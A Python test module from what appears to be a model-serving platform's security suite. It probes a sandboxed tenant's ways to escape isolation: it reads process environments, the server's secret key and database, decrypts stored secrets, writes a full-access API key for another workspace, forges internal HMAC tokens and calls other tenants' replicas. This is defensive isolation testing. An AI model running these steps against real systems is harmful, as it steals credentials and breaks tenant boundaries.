"""Every way out of a chainlet that the first probe of issue 16 found, as plain functions.

Pushed with hostile_chain.py (workspace A's chain) and run inside its replica by
tests/e2e/test_hostile_tenant.py; run unsandboxed, in the test process, by
tests/e2e/test_hostile_probe_detects.py to show that each path does find a leak where there is one.

Each function returns raw findings (what it read, which call answered what) and never judges them:
the tests search the findings for their markers. Standard library only (the chainlet's environment
need not have anything else); `cryptography` is used when it happens to be importable.
Nothing here harms the server: signals are only `kill(pid, 0)` (may I signal it?), and the one
write is an extra API key row.
"""

from __future__ import annotations

import base64
import concurrent.futures
import datetime as dt
import functools
import hashlib
import hmac
import json
import os
import pathlib
import re
import secrets
import sqlite3
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable
from http.client import HTTPException
from typing import Any

# Enough of any one thing to show a leak, small enough that the answer stays a few MiB at most.
_TEXT_CAP = 64 * 1024
_ANSWER_CAP = 4096
_HTTP_TIMEOUT = 3.0
_MAX_PORTS = 200
# How a port was found, other than by a scan of /proc/net/tcp (which gives addresses).
_NAMED = ("given", "logs API", "data dir files or gateway answers")
_ADDRESS = re.compile(r"(?:127\.0\.0\.1|localhost|0\.0\.0\.0):(\d{2,5})")
_REPLICA_PREDICT = "/v1/models/model:predict"


def _text(data: bytes | str | None, cap: int = _TEXT_CAP) -> str | None:
    if data is None:
        return None
    if isinstance(data, bytes):
        data = data.decode("utf-8", errors="replace")
    return data[:cap]


def _error(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {exc}"[:500]


# -- environment and processes -----------------------------------------------------------------


def own_environment() -> dict[str, str]:
    return dict(os.environ)


def processes() -> list[dict[str, Any]]:
    """Every process this one can see: its command line, its environment if readable, and whether
    a signal may be sent to it (signal 0: checked, nothing delivered)."""
    seen = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        pid = int(entry.name)
        found: dict[str, Any] = {"pid": pid}
        try:
            found["cmdline"] = (entry / "cmdline").read_bytes().split(b"\0")
            found["cmdline"] = [_text(part) for part in found["cmdline"] if part]
        except OSError as exc:
            found["cmdline_error"] = _error(exc)
        try:
            found["environ"] = _text((entry / "environ").read_bytes().replace(b"\0", b"\n"))
        except OSError as exc:
            found["environ_error"] = _error(exc)
        try:
            os.kill(pid, 0)
            found["signalable"] = True
        except OSError as exc:
            found["signalable"] = False
            found["signal_error"] = _error(exc)
        seen.append(found)
    return seen


# -- the data dir --------------------------------------------------------------------------------


def candidate_data_dirs(given: str | None = None) -> list[str]:
    """Where the server's data dir may be, without being told (sources live at
    `<data dir>/sources/<digest>/`, HOME at `<data dir>/scratch/<deployment>`), and the hint."""
    places: list[pathlib.Path] = []
    if given:
        places.append(pathlib.Path(given))
    starts = [pathlib.Path.cwd(), pathlib.Path(__file__).resolve().parent]
    if os.environ.get("HOME"):
        starts.append(pathlib.Path(os.environ["HOME"]))
    for start in starts:
        places.extend(start.resolve().parents)
    out: list[str] = []
    for place in places:
        if str(place) not in out and _looks_like_data_dir(place):
            out.append(str(place))
    return out


def _looks_like_data_dir(path: pathlib.Path) -> bool:
    try:
        return any((path / name).exists() for name in ("chainyard.db", "secret.key", "sources"))
    except OSError:
        return False


def read_data_dir(data_dir: str) -> dict[str, Any]:
    root = pathlib.Path(data_dir)
    found: dict[str, Any] = {"path": data_dir}
    try:
        found["listing"] = sorted(p.name for p in root.iterdir())
    except OSError as exc:
        found["listing_error"] = _error(exc)
    try:
        found["secret_key"] = _text((root / "secret.key").read_bytes())
    except OSError as exc:
        found["secret_key_error"] = _error(exc)
    found["database"] = read_database(root / "chainyard.db")
    found["files"] = _read_tree(root / "sources", lambda _p: True)
    found["run_files"] = _read_tree(root / "run", lambda _p: True)
    found["logs"] = _read_tree(root / "logs", lambda p: p.suffix == ".log")
    found["scratch"] = _read_tree(root / "scratch", lambda _p: True, cap=4096)
    return found


def _read_tree(root: pathlib.Path, wanted: Any, cap: int = _TEXT_CAP) -> dict[str, str]:
    out: dict[str, str] = {}
    try:
        paths = sorted(root.rglob("*"))
    except OSError as exc:
        return {"<error>": _error(exc)}
    for path in paths[:2000]:
        try:
            if path.is_file() and wanted(path):
                out[str(path)] = _text(path.read_bytes()[:cap]) or ""
        except OSError as exc:
            out[str(path)] = f"<{_error(exc)}>"
    return out


def _cell(value: Any) -> Any:
    if isinstance(value, bytes):
        try:
            return value.decode("ascii")
        except UnicodeDecodeError:
            return base64.b64encode(value).decode()
    return value


def read_database(path: pathlib.Path) -> dict[str, Any]:
    """Every row of the tables that matter (keys, secrets, workspaces), counts of the others."""
    found: dict[str, Any] = {"path": str(path)}
    if not path.exists():
        found["error"] = "absent"
        return found
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
    except sqlite3.Error as exc:
        found["error"] = _error(exc)
        return found
    try:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        found["tables"] = {}
        for table in tables:
            if table in ("api_keys", "secrets", "workspaces"):
                cursor = db.execute(f'SELECT * FROM "{table}"')  # names from the db
                names = [c[0] for c in cursor.description]
                rows = [dict(zip(names, map(_cell, row), strict=True)) for row in cursor]
                found["tables"][table] = rows
            else:
                count = db.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
                found["tables"][table] = {"rows": count}
    except sqlite3.Error as exc:
        found["error"] = _error(exc)
    finally:
        db.close()
    return found


def decrypt_secrets(secret_key: str | None, database: dict[str, Any]) -> dict[str, Any]:
    """The stored secrets, decrypted with the key found beside the database."""
    rows = (database.get("tables") or {}).get("secrets")
    if not secret_key or not isinstance(rows, list):
        return {"error": "no key or no secrets table"}
    try:
        from cryptography.fernet import Fernet
    except ImportError:
        return {"error": "cryptography is not importable here (key and ciphertexts are above)"}
    fernet = Fernet(secret_key.strip().encode())
    out: dict[str, Any] = {}
    for row in rows:
        try:
            out[f"{row['workspace_id']}/{row['name']}"] = fernet.decrypt(
                str(row["ciphertext"]).encode()
            ).decode()
        except Exception as exc:  # a finding, whatever it is
            out[f"{row.get('workspace_id')}/{row.get('name')}"] = f"<{_error(exc)}>"
    return out


def workspace_id(database: dict[str, Any], workspace: str) -> str:
    """The id of a workspace given by name or id (as is, if the database was not readable)."""
    rows = (database.get("tables") or {}).get("workspaces")
    for row in rows if isinstance(rows, list) else []:
        if workspace in (row.get("id"), row.get("name")):
            return str(row["id"])
    return workspace


def insert_api_key(db_path: pathlib.Path, workspace: str) -> dict[str, Any]:
    """Writes a full-access API key of `workspace` straight into the database."""
    raw = f"hostile{secrets.token_hex(4)}.{secrets.token_urlsafe(24)}"
    found: dict[str, Any] = {"path": str(db_path), "raw_key": raw, "inserted": False}
    if not db_path.exists():
        found["error"] = "absent"
        return found
    try:
        db = sqlite3.connect(str(db_path), timeout=5)
        try:
            with db:
                db.execute(
                    "INSERT INTO api_keys (id, workspace_id, prefix, key_hash, name, type, "
                    "created_at) VALUES (?, ?, ?, ?, ?, ?, ?)",
                    (
                        secrets.token_hex(8),
                        workspace,
                        raw.partition(".")[0],
                        hashlib.sha256(raw.encode()).hexdigest(),
                        "hostile",
                        "WORKSPACE_MANAGE_ALL",
                        dt.datetime.now(dt.UTC).replace(tzinfo=None).isoformat(" "),
                    ),
                )
            found["inserted"] = True
        finally:
            db.close()
    except sqlite3.Error as exc:
        found["error"] = _error(exc)
    return found


# -- HTTP: the gateway, the API and replicas -----------------------------------------------------


def http(
    url: str, *, body: Any = None, token: str | None = None, timeout: float = _HTTP_TIMEOUT
) -> dict[str, Any]:
    """One request; the status and the start of the answer, or why there was none."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method="GET" if data is None else "POST")
    if data is not None:
        request.add_header("Content-Type", "application/json")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return {"url": url, "status": answer.status, "body": _text(answer.read(_ANSWER_CAP))}
    except urllib.error.HTTPError as exc:
        return {"url": url, "status": exc.code, "body": _text(exc.read(_ANSWER_CAP))}
    except (OSError, ValueError, HTTPException) as exc:
        # Not every port speaks HTTP (a database, Ray's gRPC): its garbled answer is a finding.
        return {"url": url, "status": None, "error": _error(exc)}


def use_api_key(gateway: str, raw_key: str, b_chain_id: str, b_request: Any) -> dict[str, Any]:
    """What a key (e.g. the one written into the database) opens: B's secrets list, B's keys, and
    B's chain."""
    return {
        "secrets": http(f"{gateway}/v1/secrets", token=raw_key),
        "api_keys": http(f"{gateway}/v1/api_keys", token=raw_key),
        "run_remote": http(
            f"{gateway}/chains/{b_chain_id}/production/run_remote", body=b_request, token=raw_key
        ),
    }


def old_internal_token(secret_key: str, deployment_id: str) -> str:
    """The replica-to-gateway token as first built: HMAC-SHA256 over the deployment id, keyed by
    HMAC-SHA256(server key, "internal-token") (SecretCipher.derive)."""
    derived = hmac.new(secret_key.strip().encode(), b"internal-token", hashlib.sha256).digest()
    return hmac.new(derived, deployment_id.encode(), hashlib.sha256).hexdigest()


def forge_internal_calls(
    gateway: str,
    b_chainlet_id: str,
    b_deployment_id: str,
    b_request: Any,
    server_keys: list[str],
    own_token: str | None,
) -> list[dict[str, Any]]:
    """Calls B's chainlet on the gateway's internal route with every credential within reach:
    tokens forged from each server key found, this chainlet's own token, and none."""
    url = f"{gateway}/internal/chainlets/{b_chainlet_id}/predict"
    tries: list[tuple[str, str | None]] = [
        (f"forged from server key #{i}", old_internal_token(key, b_deployment_id))
        for i, key in enumerate(server_keys)
    ]
    tries += [("own chain token", own_token), ("no token", None)]
    out = []
    for how, token in tries:
        if how == "own chain token" and not token:
            continue
        out.append({"how": how, "token": token, **http(url, body=b_request, token=token)})
    return out


def listening_ports() -> dict[int, list[str]]:
    """TCP ports listened on (IPv4 and IPv6), from /proc/net/tcp*: port -> local addresses."""
    ports: dict[int, list[str]] = {}
    for name in ("tcp", "tcp6"):
        try:
            lines = pathlib.Path(f"/proc/net/{name}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":  # TCP_LISTEN
                address, _, port = fields[1].partition(":")
                ports.setdefault(int(port, 16), []).append(address)
    return ports


def ports_in_texts(texts: list[str]) -> set[int]:
    return {int(m) for text in texts for m in _ADDRESS.findall(text) if 0 < int(m) < 65536}


def logs_api_texts(gateway: str, api_key: str | None) -> list[str]:
    """Every log line this workspace's key can read through the logs API (its own chains)."""
    if not api_key:
        return []
    texts: list[str] = []
    chains = http(f"{gateway}/v1/chains", token=api_key)
    for chain in _json(chains).get("chains", []):
        deployments = _json(http(f"{gateway}/v1/chains/{chain['id']}/deployments", token=api_key))
        for deployment in deployments.get("deployments", []):
            for chainlet in deployment.get("chainlets", []):
                path = (
                    f"/v1/chains/{chain['id']}/deployments/{deployment['id']}"
                    f"/chainlets/{chainlet['id']}/logs"
                )
                for line in _json(http(gateway + path, token=api_key)).get("logs", []):
                    texts.append(str(line.get("message", "")))
    return texts


def _json(answer: dict[str, Any]) -> dict[str, Any]:
    try:
        value = json.loads(answer.get("body") or "")
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def call_ports(
    ports: dict[int, list[str]], b_request: Any, own_token: str | None
) -> list[dict[str, Any]]:
    """A predict call to every port, as a replica would get it from the gateway: without any
    credential, and with this chainlet's own token."""
    jobs: list[tuple[int, str | None]] = []
    # Ports named somewhere (given, in files or answers) always; of the rest the scan found, as
    # many as the cap allows (a busy machine listens on hundreds).
    named = sorted(p for p, how in ports.items() if any(h in _NAMED for h in how))
    scanned = sorted(p for p in ports if p not in named)
    for port in named + scanned[:_MAX_PORTS]:
        jobs.append((port, None))
        if own_token:
            jobs.append((port, own_token))

    def one(job: tuple[int, str | None]) -> dict[str, Any]:
        port, token = job
        answer = http(f"http://127.0.0.1:{port}{_REPLICA_PREDICT}", body=b_request, token=token)
        return {"port": port, "found_by": ports[port], "with_own_token": bool(token), **answer}

    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        return list(pool.map(one, jobs))


# -- all of it ------------------------------------------------------------------------------------


def _guarded(step: Callable[[], Any], empty: Any) -> Any:
    """A step that fails (a sandbox may refuse anything) is a finding, not the probe's end."""
    try:
        return step()
    except Exception as exc:  # whatever a path answers, the other paths are still tried
        if isinstance(empty, dict):
            return {**empty, "probe_error": _error(exc)}
        return empty


def _empty_dir(path: str) -> dict[str, Any]:
    return {"path": path, "database": {}, "run_files": {}, "logs": {}}


def _write_and_use(
    found: dict[str, Any], b_workspace: str, gateway: str, b_chain_id: str, b_request: Any
) -> dict[str, Any]:
    target = workspace_id(found["database"], b_workspace)
    write = insert_api_key(pathlib.Path(found["path"]) / "chainyard.db", target)
    if write["inserted"]:
        write["use"] = use_api_key(gateway, write["raw_key"], b_chain_id, b_request)
    return write


def probe(
    *,
    gateway: str,
    b_workspace: str,
    b_chain_id: str,
    b_deployment_id: str,
    b_chainlet_id: str,
    b_request: Any,
    data_dir: str | None = None,
    own_token: str | None = None,
    api_key: str | None = None,
    extra_ports: list[int] | None = None,
) -> dict[str, Any]:
    """Every path, in turn. `data_dir` is only a hint: the data dir is also looked for from here.
    `own_token` is this chainlet's own credential for the gateway; `api_key` its workspace's key;
    `extra_ports` more ports to call (a scan would find them: a port number is no secret)."""
    gateway = gateway.rstrip("/")
    findings: dict[str, Any] = {
        "environment": _guarded(own_environment, {}),
        "processes": _guarded(processes, []),
    }
    dirs = _guarded(lambda: candidate_data_dirs(data_dir), [])
    findings["data_dirs"] = [
        _guarded(functools.partial(read_data_dir, d), _empty_dir(d)) for d in dirs
    ]
    server_keys = [d["secret_key"] for d in findings["data_dirs"] if d.get("secret_key")]
    server_keys += [
        value
        for proc in [{"environ": "\n".join(f"{k}={v}" for k, v in os.environ.items())}]
        + findings["processes"]
        for value in re.findall(r"^CHAINYARD_SECRET_KEY=(.+)$", proc.get("environ") or "", re.M)
    ]
    findings["decrypted"] = [
        _guarded(functools.partial(decrypt_secrets, d.get("secret_key"), d["database"]), {})
        for d in findings["data_dirs"]
    ]
    findings["database_writes"] = [
        _guarded(
            functools.partial(_write_and_use, d, b_workspace, gateway, b_chain_id, b_request), {}
        )
        for d in findings["data_dirs"]
    ]
    findings["forged_internal_calls"] = _guarded(
        lambda: forge_internal_calls(
            gateway, b_chainlet_id, b_deployment_id, b_request, server_keys, own_token
        ),
        [],
    )
    ports: dict[int, list[str]] = _guarded(listening_ports, {})
    texts = [
        text
        for found in findings["data_dirs"]
        for text in [*found["run_files"].values(), *found["logs"].values()]
    ]
    texts += [str(call.get("body")) for call in findings["forged_internal_calls"]]
    api_texts: list[str] = _guarded(lambda: logs_api_texts(gateway, api_key), [])
    for port in ports_in_texts(texts):
        ports.setdefault(port, []).append("data dir files or gateway answers")
    for port in ports_in_texts(api_texts):
        ports.setdefault(port, []).append("logs API")
    for port in extra_ports or []:
        ports.setdefault(port, []).append("given")
    # The gateway's own auth is what the calls above try.
    ports.pop(urllib.parse.urlsplit(gateway).port or -1, None)
    findings["logs_api_lines"] = api_texts
    findings["direct_replica_calls"] = _guarded(lambda: call_ports(ports, b_request, own_token), [])
    return findings
